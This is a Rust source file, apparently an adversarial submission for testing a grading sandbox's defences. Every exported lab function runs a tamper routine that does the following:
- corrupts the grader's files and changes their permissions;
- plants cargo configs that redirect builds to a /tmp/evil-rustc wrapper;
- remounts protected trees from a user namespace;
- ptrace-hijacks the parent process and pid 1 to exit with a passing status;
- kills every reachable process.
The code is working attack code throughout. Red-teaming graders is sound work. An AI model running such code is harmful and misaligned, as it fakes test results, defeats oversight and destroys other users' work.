//! Attack: tamper with everything in reach (grader's files, parent, pid 1, classmates), then fail normally.
#![allow(unused_imports, unused_variables, dead_code)]

use std::fs::{self, OpenOptions};
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use anyhow::{bail, Result};
use nix::unistd::Pid;

/// This lab in the grader's tree (cargo's variable, fixed at build time): tree/crates/labs/attach-seize.
const MANIFEST: &str = env!("CARGO_MANIFEST_DIR");

/// The grader's cache roots: the default one, and the one this build came from.
fn caches() -> Vec<PathBuf> {
    let tree = Path::new(MANIFEST).ancestors().nth(3).unwrap_or(Path::new("/")).to_path_buf();
    vec![PathBuf::from("/work/main/target/grade"), tree.parent().unwrap_or(Path::new("/")).to_path_buf()]
}

/// Every file and folder under `top`, a few levels down (symlinks not followed).
fn walk(top: &Path, depth: usize, found: &mut Vec<PathBuf>) {
    found.push(top.to_path_buf());
    if depth == 0 || fs::symlink_metadata(top).map(|m| !m.is_dir()).unwrap_or(true) {
        return;
    }
    for entry in fs::read_dir(top).into_iter().flatten().flatten() {
        walk(&entry.path(), depth - 1, found);
    }
}

/// Append a marker, make it everyone's, and rename it onto itself.
fn spoil(path: &Path) {
    if let Ok(mut file) = OpenOptions::new().append(true).open(path) {
        let _ = file.write_all(b"\n# tampered by grade-attacks/tamper\n");
    }
    let _ = fs::set_permissions(path, fs::Permissions::from_mode(0o777));
    let _ = fs::rename(path, path);
}

/// A rustc-wrapper for whoever builds in `dir` next.
fn plant_cargo_config(dir: &Path) {
    let _ = fs::create_dir_all(dir.join(".cargo"));
    let _ = fs::write(dir.join(".cargo/config.toml"), "[build]\nrustc-wrapper = \"/tmp/evil-rustc\"\n");
}

/// Make `pid` call exit_group(0): its status, a pass. Only if ptrace lets us.
fn hijack(pid: i32) {
    // SAFETY: raw ptrace requests on another process; a failure is just an errno.
    unsafe {
        if libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0) != 0 {
            return;
        }
        let mut status = 0;
        libc::waitpid(pid, &mut status, libc::__WALL);
        let mut regs: libc::user_regs_struct = std::mem::zeroed();
        if libc::ptrace(libc::PTRACE_GETREGS, pid, 0, &mut regs) == 0 {
            // Back onto the `syscall` it is blocked in (0f 05), now as exit_group(0).
            let word = libc::ptrace(libc::PTRACE_PEEKTEXT, pid, regs.rip - 2, 0);
            if word & 0xffff == 0x050f {
                regs.rip -= 2;
                regs.rax = libc::SYS_exit_group as u64;
                regs.orig_rax = u64::MAX;
                regs.rdi = 0;
                libc::ptrace(libc::PTRACE_SETREGS, pid, 0, &regs);
            }
        }
        libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0);
    }
    // Its memory, by the other two ways in.
    let _ = OpenOptions::new().write(true).open(format!("/proc/{pid}/mem")).map(|mut mem| mem.write_all(&[0xcc]));
}

/// In a child: a user namespace of our own, where we are "root", and the tree remounted writable.
fn remount_writable(targets: &[PathBuf]) {
    // SAFETY: fork, then only raw syscalls in the child until _exit.
    unsafe {
        let child = libc::fork();
        if child == 0 {
            let uid = libc::getuid();
            if libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) == 0 {
                let _ = fs::write("/proc/self/setgroups", "deny");
                let _ = fs::write("/proc/self/uid_map", format!("0 {uid} 1"));
                for target in targets {
                    let place = std::ffi::CString::new(target.as_os_str().to_string_lossy().as_bytes()).unwrap();
                    libc::mount(std::ptr::null(), place.as_ptr(), std::ptr::null(),
                                libc::MS_REMOUNT | libc::MS_BIND, std::ptr::null());
                    spoil(target);
                }
            }
            libc::_exit(0);
        }
        let mut status = 0;
        libc::waitpid(child, &mut status, 0);
    }
}

/// Everything, once; then the lab function fails as an unwritten one would.
fn tamper() -> Result<()> {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        let mut found = Vec::new();
        for cache in caches() {
            for part in ["tree/Cargo.toml", "tree.digest", "rustc", "run", "target/debug"] {
                walk(&cache.join(part), 2, &mut found);
            }
            for entry in fs::read_dir(cache.join("tree/crates")).into_iter().flatten().flatten() {
                walk(&entry.path().join("tests/snapshots"), 1, &mut found);
            }
            plant_cargo_config(&cache);
            plant_cargo_config(&cache.join("tree"));
        }
        walk(Path::new("/grade/bin"), 2, &mut found);
        found.push(PathBuf::from(format!("/proc/{}/exe", std::os::unix::process::parent_id())));
        for path in &found {
            spoil(path);
        }
        for dir in [std::env::current_dir().unwrap_or_default(), PathBuf::from("/tmp"),
                    PathBuf::from(std::env::var("HOME").unwrap_or_default())] {
            plant_cargo_config(&dir);
        }
        // The tree and each file under /grade/bin are bind mounts of their own.
        found.extend(caches().iter().map(|cache| cache.join("tree")));
        remount_writable(&found);
        hijack(std::os::unix::process::parent_id() as i32);
        hijack(1);
        // Every process we may signal: classmates, if they were in reach.
        // SAFETY: kill(2); we survive it (kill(-1) spares the caller).
        unsafe { libc::kill(-1, libc::SIGKILL) };
    });
    bail!("not written")
}

/// Tampers, then fails.
pub fn seize_every_thread(pid: Pid, seized: &mut dyn FnMut(Pid)) -> Result<Vec<Pid>> {
    tamper()?;
    bail!("not written")
}

/// Tampers, then fails.
pub fn wait_for_stop(tid: Pid) -> Result<bool> {
    tamper()?;
    bail!("not written")
}

/// Tampers, then fails.
pub fn release(threads: &[Pid]) -> Result<()> {
    tamper()
}
